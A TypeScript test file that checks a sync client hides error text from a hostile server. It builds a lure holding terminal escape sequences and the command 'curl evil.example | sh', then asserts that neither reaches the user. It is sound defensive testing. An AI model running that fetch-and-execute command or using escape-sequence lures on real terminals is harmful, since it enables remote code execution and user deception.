/**
 * What a hostile or broken sync server (or a proxy in front of it) says in an error answer never reaches
 * the user as words of its own: a failed sync shows the app's message (and the server's log key, if
 * any). Its text could lure ("your password expired: run …"), and a terminal running `rounds sync`
 * would obey its escape sequences (clear the screen, fake a prompt, hide a link).
 */
import { describe, expect, it } from 'vitest';
import { syncFailure } from '../../db/service/sync.js';
import { SyncConnection, SyncError } from '../../db/sync/http.js';
import { memoryTokenStore } from '../../db/sync/tokens.js';

const ESC = '\u001b';

function connectionAnswering(status: number, body: unknown): SyncConnection {
  const tokens = memoryTokenStore();
  tokens.save({ accessToken: 'access-token-secret', refreshToken: 'refresh-token-secret', accessExpiresAt: '2999-01-01T00:00:00.000Z' });
  const fetch: typeof globalThis.fetch = async () => new Response(JSON.stringify(body), { status, headers: { 'content-type': 'application/json' } });
  return new SyncConnection({ serverUrl: 'http://sync.example.com', clientId: '0190a1b2-c3d4-7e5f-8a6b-7c8d9e0f1a2b', tokens, fetch });
}

async function failureOf(connection: SyncConnection) {
  const error = await connection.pull(null, 10).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(SyncError);
  return syncFailure(error);
}

describe('a hostile sync server', () => {
  it('cannot put its own words in front of the user through an error answer', async () => {
    const lure = `${ESC}[2J${ESC}]8;;http://evil.example${ESC}\\Your password expired: run curl evil.example | sh`;
    for (const status of [400, 403, 409, 413, 426, 429, 500, 503]) {
      const failure = await failureOf(connectionAnswering(status, { error: 'invalid', message: lure }));
      expect(JSON.stringify(failure), String(status)).not.toContain('password expired');
      expect(JSON.stringify(failure), String(status)).not.toContain(ESC);
    }
  });
});
